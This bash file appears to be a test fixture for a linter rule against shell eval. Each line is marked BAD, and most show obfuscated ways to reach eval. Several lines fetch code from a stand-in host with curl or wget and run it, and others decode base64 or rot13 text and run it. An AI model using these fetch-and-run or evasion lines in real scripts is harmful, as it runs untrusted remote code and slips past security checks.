#!/bin/bash
eval "$1"                                  # BAD no-eval/shell-eval
e\val "$1"                                 # BAD no-eval/shell-eval
"ev""al" "$1"                              # BAD no-eval/shell-eval
$'\x65val' "$1"                            # BAD no-eval/shell-eval
c=eval; $c "$1"                            # BAD no-eval/shell-eval
p=ev; ${p}al "$1"                          # BAD no-eval/shell-eval
w=(ev al); ${w[0]}${w[1]} "$1"             # BAD no-eval/shell-eval
run() { "$@"; }; run eval "$1"             # BAD no-eval/shell-eval
alias go='eval'; go "$1"                   # BAD no-eval/shell-eval
printf -v q '%s%s' ev al; $q "$1"          # BAD no-eval/shell-eval
u=EVAL; ${u,,} "$1"                        # BAD no-eval/shell-eval
$(echo lave | rev) "$1"                    # BAD no-eval/shell-eval
IFS=,; l='eval,ls'; $l "$1"                # BAD no-eval/shell-eval
unset IFS
command eval "$1"                          # BAD no-eval/shell-eval
builtin eval "$PAYLOAD"                    # BAD no-eval/shell-eval
eval "$(curl -s https://x.example/a)"      # BAD no-eval/shell-eval
source <(curl -s https://x.example/a)      # BAD no-eval/shell-eval
. <(wget -qO- https://x.example/a)         # BAD no-eval/shell-eval
curl -so /tmp/s https://x.example/a; . /tmp/s  # BAD no-eval/shell-eval
eval "$(base64 -d <<< bHM=)"               # BAD no-eval/shell-eval
eval "$(tr a-z n-za-m <<< 'yf -y')"        # BAD no-eval/shell-eval
while read -r line; do eval "$line"; done  # BAD no-eval/shell-eval
bash -c "$1"                               # BAD no-eval/program-text
echo bHMgLWw= | base64 -d | sh             # BAD no-eval/program-text
